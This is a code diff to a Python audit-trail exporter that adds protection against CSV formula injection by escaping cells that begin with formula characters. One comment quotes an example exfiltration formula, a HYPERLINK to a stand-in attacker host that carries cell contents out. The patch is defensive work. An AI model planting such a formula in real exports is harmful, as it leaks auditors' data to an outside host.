@@ -1,6 +1,7 @@
 """The audit trail's two file formats: JSON lines (one
 `json.dumps(row, sort_keys=True)` per row) and CSV (the details column
-holds the same sorted JSON). Rows are written as they come, in chunks of
+holds the same sorted JSON; a cell a spreadsheet would run as a formula is
+written as text, `_as_text`). Rows are written as they come, in chunks of
 `CHUNK` rows: nothing here holds more than one chunk."""
 
 from __future__ import annotations
@@ -37,6 +38,24 @@ AUDIT_FIELDS = (
 )
 
 _DETAILS = json.JSONEncoder(sort_keys=True)
+
+# How a cell a spreadsheet would read as a formula begins (OWASP, CSV
+# Injection: https://owasp.org/www-community/attacks/CSV_Injection). A
+# change's reason is whatever its requester typed in Slack or the CLI, so
+# `=HYPERLINK("http://evil.example/?x="&A1,"click")` would otherwise run
+# when an auditor opens the export.
+_FORMULA_START = frozenset("=+-@\t\r")
+
+
+def _as_text(cells: list[Any]) -> list[Any]:
+    """The cells, each text one that begins as a formula behind a `'`, which
+    spreadsheets read as "the rest is text". Numbers (`seq`) are written as
+    numbers: a spreadsheet reads `-1` as one, never as a formula. The JSON
+    lines are left as recorded: they are data for programs, not a sheet."""
+    return [
+        "'" + cell if isinstance(cell, str) and cell[:1] in _FORMULA_START else cell
+        for cell in cells
+    ]
 
 
 def _sorted_json() -> Callable[[Any], str]:
@@ -108,7 +127,9 @@ def export_audit(rows: Iterable[dict[str, Any]], fmt: str) -> Iterator[str]:
     writer.writerow([*AUDIT_FIELDS, "details"])
     count = 0
     for row in rows:
-        writer.writerow([*(row.get(key, "") for key in AUDIT_FIELDS), encode(row["details"])])
+        cells = [row.get(key, "") for key in AUDIT_FIELDS]
+        cells.append(encode(row["details"]))
+        writer.writerow(_as_text(cells))
         count += 1
         if count == CHUNK:
             yield buffer.getvalue()
